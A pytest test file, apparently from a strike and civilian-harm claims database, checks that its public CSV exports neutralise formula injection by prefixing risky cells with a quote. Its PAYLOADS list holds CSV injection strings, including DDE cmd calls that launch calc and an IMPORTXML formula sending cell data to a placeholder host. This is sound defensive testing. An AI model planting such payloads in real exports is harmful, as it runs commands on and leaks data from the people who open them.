"""Issue 10, finding 2: no CSV the project writes carries a live formula.

The audit planted 13 formulas in text fields and got all 13 back live from the public exports. A
cell that begins with = + - @, a tab or a carriage return now comes out with a leading ' (OWASP's
advice), whatever field it is in; numbers stay numbers.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from claims.api.renderers import cell, csv_lines, inert
from tests.factories import (
    BelligerentFactory,
    ClaimFactory,
    ExternalAssessmentFactory,
    StrikeFactory,
    assess,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+2",
    "\r=1+2",
    "=10+20+cmd|' /C calc'!A0",
    "-1+1",
    "+cmd|' /C calc'!A0",
    "@cmd",
    '=IMPORTXML(CONCAT("http://x?", A1), "//a")',
]
EXPORTS = [
    "/api/v1/strikes/",
    "/api/v1/claims/",
    "/api/v1/assessments/",
    "/api/v1/external-assessments/",
    "/api/v1/belligerents/",
    "/api/v1/reports/monthly/",
]
# Where each payload was planted, per export: these cells must read back as ' + the payload.
PLANTED = {
    "/api/v1/strikes/": ["belligerent", "province", "locality", "target", "munition"],
    "/api/v1/claims/": ["belligerent", "province", "locality", "source_name", "summary"],
    "/api/v1/assessments/": ["rationale", "province", "locality"],
    "/api/v1/external-assessments/": ["organisation"],
    "/api/v1/belligerents/": ["name"],
}


def is_live(text: str) -> bool:
    """Would a spreadsheet run this cell as a formula? (A plain number runs nothing.)"""
    if not text.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


@pytest.fixture
def planted(db):
    """One strike, claim, approved assessment and independent finding per payload, the payload
    in every text field the public exports carry; the claim's coordinates are negative."""
    for number, payload in enumerate(PAYLOADS, 1):
        belligerent = BelligerentFactory(name=payload)
        text = {"province": payload, "locality": payload}
        strike = StrikeFactory(
            strike_ref=f"S-{number}",
            belligerent=belligerent,
            target=payload,
            munition=payload,
            **text,
        )
        claim = ClaimFactory(
            claim_ref=f"CIV-{number}",
            belligerent=belligerent,
            source_name=payload,
            summary=payload,
            latitude=-0.5,
            longitude=-3.5,
            **text,
        )
        claim.strikes.add(strike)
        assess(claim, "non_credible", on=claim.received_on, rationale=payload)
        ExternalAssessmentFactory(claim=claim, organisation=payload)


def download(client, path) -> list[dict]:
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200
    body = response.getvalue() if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.parametrize("path", EXPORTS)
def test_no_cell_of_any_public_export_is_a_live_formula(client, planted, path):
    rows = download(client, path)
    assert rows
    live = [(row.get("claim_ref"), key, value) for row in rows for key, value in row.items()]
    assert [cell for cell in live if is_live(cell[2])] == []


@pytest.mark.parametrize("path", list(PLANTED))
def test_each_payload_comes_back_with_a_leading_quote_and_nothing_else_changed(
    client, planted, path
):
    rows = download(client, path)
    for name in PLANTED[path]:
        assert sorted(row[name] for row in rows) == sorted("'" + p for p in PAYLOADS), name


def test_numbers_stay_numbers(client, planted):
    rows = download(client, "/api/v1/claims/")
    assert {(row["latitude"], row["longitude"]) for row in rows} == {("-0.500000", "-3.500000")}
    assert {row["civilians_killed_min"] for row in rows} == {"2"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3.5, "-3.5"),  # a JSON number: a number
        (-3, "-3"),
        ("-3", "-3"),  # a number written as text runs nothing either
        ("-3.5", "-3.5"),
        ("+964 555 0100", "'+964 555 0100"),  # a phone number is text
        ("-1+1", "'-1+1"),
        ("2017-03-09", "2017-03-09"),
        (["=1+2", "S-1"], "'=1+2;S-1"),  # a list is one text cell
        (None, ""),
        (True, "true"),
        ("a=1", "a=1"),  # only the first character matters
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, written):
    assert cell(value) == written


def test_inert_follows_owasp_on_each_trigger():
    assert [inert(f"{start}x") for start in "=+-@\t\r"] == [f"'{start}x" for start in "=+-@\t\r"]


CELLS = [
    *PAYLOADS,
    *["-3", "-3.5", "+3", "-0.000001", "-3.", "-.5", "-", "+", "--1", "-3.5e2", "3-", "1-1"],
    *["a=1", "S-1;=x", "=x;S-1", "", None, 7, -7, Decimal("-1E-7"), date(2017, 3, 1)],
    *["a,=b", '"=q"', "=x\ny", "http://x/-1", "\u2028=x", " =x", "'=x"],
]


@pytest.mark.parametrize("first", CELLS)
@pytest.mark.parametrize("other", ["plain", "-36.3", "=1"])
def test_an_export_line_neutralises_exactly_the_text_cells_inert_would(first, other):
    """Exports check for formulas on the joined line (csv_lines' `inert_text`): the same lines
    as every str cell made inert one by one and written by csv.writer; other values untouched."""
    for row in ([first], [first, other], [other, first, other], [other, other, first]):
        expected = io.StringIO()
        csv.writer(expected).writerow([inert(c) if type(c) is str else c for c in row])
        assert "".join(csv_lines([row], inert_text=True)) == expected.getvalue(), row
